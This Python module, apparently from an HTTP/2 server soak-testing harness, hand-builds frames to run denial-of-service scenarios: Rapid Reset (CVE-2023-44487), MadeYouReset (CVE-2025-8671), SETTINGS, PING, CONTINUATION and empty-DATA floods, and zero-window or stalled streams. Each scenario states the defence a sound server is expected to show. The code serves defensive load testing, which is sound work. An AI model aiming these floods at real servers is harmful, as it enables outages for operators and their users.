"""HTTP/2: frames that cost the server more than the client, and streams that are opened and left.

Frames are packed here by hand (RFC 9113, 4.1), because a library would refuse to send most of them.
The header block of a request needs neither Huffman nor a table: three indexed fields and Host in
full (RFC 7541, 6.1 and 6.2). A sound server counts what brings nothing, and says GOAWAY.
"""

from __future__ import annotations

from hardhttp.soak.connection import Connection, ConnectionEnded
from hardhttp.soak.load import Load
from hardhttp.soak.scenario import ALLOCATOR_BYTES, MIB, Expectation, Scenario

__all__ = [
    "PREFACE",
    "ContinuationFlood",
    "EmptyDataFlood",
    "MadeYouReset",
    "PingFlood",
    "RapidReset",
    "SettingsFlood",
    "StalledStreams",
    "WindowGames",
    "frame",
    "is_http2",
]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = (8).to_bytes(4, "big")
INITIAL_WINDOW_SIZE = 4
# An increment that makes a window larger than may be, an error of the stream alone: RFC 9113 (6.9.1).
TOO_MUCH = (0x7FFFFFFF).to_bytes(4, "big")


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame, RFC 9113 (4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value: bytes) -> bytes:
    """A string literal without Huffman, RFC 7541 (5.2): its length as an integer with a prefix of seven bits."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, length = len(value) - 127, [127]
    while rest >= 128:
        length.append(rest % 128 + 128)
        rest //= 128
    return bytes([*length, rest]) + value


def block(load: Load, path: str, method: str = "GET") -> bytes:
    """The header block of a request: :method and :scheme from the static table, :path and :authority in full."""
    scheme = b"\x87" if load.where.tls else b"\x86"
    verb = b"\x82" if method == "GET" else b"\x83"
    return verb + scheme + b"\x04" + text(path.encode("latin-1")) + b"\x01" + text(load.where.authority.encode("ascii"))


async def open_http2(load: Load, settings: bytes = b"") -> Connection:
    connection = await load.connect(b"h2")
    connection.parses = False
    connection.send(PREFACE + frame(SETTINGS, 0, 0, settings))
    return connection


async def is_http2(load: Load) -> bool:
    """Whether the server speaks it, with prior knowledge or by ALPN: its first frame is SETTINGS."""
    try:
        connection = await open_http2(load)
        while connection.received_bytes < 9:
            await connection.more()
    except ConnectionEnded:
        return False
    speaks = connection.tail[3] == SETTINGS and connection.tail[5:9] == bytes(4)
    connection.reset()
    return speaks


class Flood(Scenario):
    """The base of floods: the same piece again and again, until the server ends the connection or takes no more."""

    speaks = "http2"
    connections = 4
    per_second = 20.0
    # A client's life: so many pieces, a few at a time, at most so often.
    pieces = 400
    pause_seconds = 0.01
    expectation = Expectation(held_bytes=100 * MIB, honest_p99_ms=1000.0)
    answered_by: tuple[str, ...] = ("max_control_frames",)

    def piece(self, load: Load, number: int) -> bytes:
        raise NotImplementedError

    def begin(self, load: Load) -> bytes:
        return b""

    async def client(self, load: Load) -> None:
        connection = await open_http2(load)
        connection.send(self.begin(load))
        for number in range(self.pieces):
            connection.send(self.piece(load, number))
            await connection.drained()
            await load.sleep(self.pause_seconds)
            if connection.ended is not None:
                load.count("ended by the server")
                return
        load.count("taken to the end")
        connection.reset()


class RapidReset(Flood):
    """Requests that are reset as they are made (CVE-2023-44487), ten in a write. A sound server counts them, and ends
    the connection.
    """

    name = "rapid-reset"
    rows = ("C02", "E02")
    answered_by: tuple[str, ...] = ("max_stream_resets",)

    def piece(self, load: Load, number: int) -> bytes:
        request = block(load, load.where.paths["hello"])
        first = number * 20 + 1
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, request) + frame(RST_STREAM, 0, stream, CANCEL)
            for stream in range(first, first + 20, 2)
        )


class MadeYouReset(Flood):
    """Requests that the server has to reset itself, because a window too large follows (CVE-2025-8671). A sound
    server counts them as if the client had reset them.
    """

    name = "made-you-reset"
    rows = ("C02", "E02")
    answered_by: tuple[str, ...] = ("max_stream_resets",)

    def piece(self, load: Load, number: int) -> bytes:
        # A stream that has been answered is closed, and nothing about it makes anybody reset it.
        request = block(load, load.where.paths.get("later", load.where.paths["hello"]))
        first = number * 20 + 1
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, request) + frame(WINDOW_UPDATE, 0, stream, TOO_MUCH)
            for stream in range(first, first + 20, 2)
        )


class SettingsFlood(Flood):
    """SETTINGS, fifty in a write, each of which has to be acknowledged. A sound server ends the connection."""

    name = "settings-flood"
    rows = ("E02",)

    def piece(self, load: Load, number: int) -> bytes:
        return frame(SETTINGS, 0, 0) * 50


class PingFlood(Flood):
    """PING, fifty in a write, each of which has to be answered. A sound server ends the connection."""

    name = "ping-flood"
    rows = ("E02",)

    def piece(self, load: Load, number: int) -> bytes:
        return frame(PING, 0, 0, bytes(8)) * 50


class ContinuationFlood(Flood):
    """A header block that goes on in CONTINUATION frames without end. A sound server ends it at the bound of a head."""

    name = "continuation-flood"
    rows = ("E02", "E07")
    answered_by: tuple[str, ...] = ("max_head_bytes", "max_control_frames")

    def begin(self, load: Load) -> bytes:
        return frame(HEADERS, END_STREAM, 1, block(load, load.where.paths["hello"]))

    def piece(self, load: Load, number: int) -> bytes:
        # A literal field without indexing, RFC 7541 (6.2.2).
        field = b"\x00" + text(b"x-%d" % number) + text(b"x" * 1000)
        return frame(CONTINUATION, 0, 1, field * 8)


class EmptyDataFlood(Flood):
    """A body of DATA frames that hold nothing, fifty in a write. A sound server ends the connection."""

    name = "empty-data-flood"
    rows = ("E02",)

    def begin(self, load: Load) -> bytes:
        path = load.where.paths.get("upload", load.where.paths["hello"])
        return frame(HEADERS, END_HEADERS, 1, block(load, path, "POST"))

    def piece(self, load: Load, number: int) -> bytes:
        return frame(DATA, 0, 1) * 50


class WindowGames(Flood):
    """A window of no bytes, a large answer asked for on a hundred streams, and a PING now and then to look alive. A
    sound server holds little for each, and cuts whoever takes nothing.
    """

    name = "window-games"
    rows = ("C02", "ten: slow reader")
    needs = frozenset({"large"})
    pieces = 10_000
    pause_seconds = 0.5
    expectation = Expectation(held_bytes=400 * MIB, left_bytes=ALLOCATOR_BYTES, held_seconds=130, honest_p99_ms=1000.0)
    answered_by: tuple[str, ...] = ("send_seconds", "send_bytes_per_second")

    def begin(self, load: Load) -> bytes:
        request = block(load, load.where.paths["large"])
        nothing = frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4))
        asked = (frame(HEADERS, END_HEADERS | END_STREAM, stream, request) for stream in range(1, 200, 2))
        return nothing + b"".join(asked)

    def piece(self, load: Load, number: int) -> bytes:
        return frame(PING, 0, 0, bytes(8))


class StalledStreams(Flood):
    """Large answers of which the first 64 KiB are taken, and the window never opened again. A sound server frees each
    stream at its deadline.
    """

    name = "stalled-streams"
    rows = ("C02",)
    needs = frozenset({"large"})
    pieces = 10_000
    pause_seconds = 0.5
    expectation = Expectation(held_bytes=400 * MIB, left_bytes=ALLOCATOR_BYTES, held_seconds=130)
    answered_by: tuple[str, ...] = ("send_seconds", "send_bytes_per_second")

    def begin(self, load: Load) -> bytes:
        request = block(load, load.where.paths["large"])
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, request) for stream in range(1, 40, 2))

    def piece(self, load: Load, number: int) -> bytes:
        return b""
